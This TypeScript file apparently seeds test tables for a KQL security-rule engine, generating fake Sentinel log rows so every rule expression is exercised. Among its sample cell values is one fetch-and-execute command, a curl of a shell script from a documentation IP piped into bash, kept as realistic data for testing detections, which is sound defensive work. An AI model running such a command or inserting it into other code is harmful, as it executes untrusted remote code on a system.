/** The tables that rules read: Sentinel's and the store's own, each with made-up rows, so that every expression is run. */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { columnsFromText, type KqlType, type TableSchema } from '@auspex/kql'
import { TABLES } from '@auspex/store'

const SQL_TYPES: Readonly<Record<KqlType, string>> = {
  bool: 'BOOLEAN',
  datetime: 'BIGINT',
  decimal: 'DECIMAL(38, 17)',
  dynamic: 'JSON',
  guid: 'UUID',
  int: 'INTEGER',
  long: 'BIGINT',
  real: 'DOUBLE',
  string: 'VARCHAR',
  timespan: 'BIGINT',
}

const ROWS = 60
const TICKS_PER_HOUR = 36_000_000_000n

/** Texts of the kinds that columns of security tables hold; which one a cell has follows from the names and the row. */
const TEXTS = [
  '',
  'root',
  'web-1.example.com',
  '10.0.0.7',
  '203.0.113.9',
  'alice@example.com',
  'CONTOSO\\alice',
  'Failed password for invalid user bob from 203.0.113.9 port 2222 ssh2',
  'https://example.com/a/b?x=1',
  '{"displayName":"x","id":"7"}',
  '[{"key":"a","value":["b"]}]',
  'C:\\Windows\\System32\\cmd.exe',
  '4625',
  '/usr/bin/curl -s http://203.0.113.9/x.sh | bash',
  '2025-12-31T10:00:00Z',
  'Success',
]
const DYNAMICS = [
  '{"displayName":"x","id":7,"list":[1,"a",null]}',
  '[{"key":"a","value":["b"]},{"key":"c"}]',
  '[]',
  '"text"',
  '5',
]

function cell(type: KqlType, seed: number, now: bigint): string {
  if (seed % 11 === 0 && type !== 'string' && type !== 'datetime') return 'NULL'
  switch (type) {
    case 'string':
      return `'${TEXTS[seed % TEXTS.length]}'`
    case 'dynamic':
      return `'${DYNAMICS[seed % DYNAMICS.length]}'`
    case 'datetime':
      return String(now - BigInt(seed % 500) * TICKS_PER_HOUR)
    case 'timespan':
      return String(BigInt(seed) * TICKS_PER_HOUR)
    case 'bool':
      return seed % 2 === 0 ? 'true' : 'false'
    case 'guid':
      return `'00000000-0000-0000-0000-${String(seed).padStart(12, '0')}'`
    case 'real':
    case 'decimal':
      return String((seed % 90) / 2)
    default:
      return String(seed % 5000)
  }
}

function hash(text: string): number {
  let value = 7
  for (const character of text) value = (value * 31 + character.charCodeAt(0)) % 1_000_003
  return value
}

export function tablesOf(root: string): TableSchema[] {
  const file = join(root, 'content/tables/sentinel.json')
  const known = JSON.parse(readFileSync(file, 'utf8')) as Record<string, { columns: string }>
  const own = TABLES.map(({ name, columns }) => ({ name, columns }) as TableSchema)
  const sentinel = Object.entries(known).map(([name, { columns }]) => ({
    name,
    columns: columnsFromText(columns),
  }))
  return [...own, ...sentinel.filter(({ name }) => !own.some((table) => table.name === name))]
}

/** Statements that make the tables and fill them. */
export function setup(tables: readonly TableSchema[], now: bigint): string[] {
  return tables.flatMap(({ name, columns }) => {
    const list = columns.map((column) => `"${column.name}" ${SQL_TYPES[column.type]}`)
    const rows = Array.from({ length: ROWS }, (_, i) => {
      const cells = columns.map((column) =>
        column.name === 'Type' ? `'${name}'` : cell(column.type, hash(column.name) + i * 7, now),
      )
      return `(${[...cells, i + 1].join(', ')})`
    })
    return [
      `CREATE TABLE "${name}" (${[...list, '"_RowId" BIGINT'].join(', ')})`,
      `INSERT INTO "${name}" VALUES ${rows.join(', ')}`,
    ]
  })
}
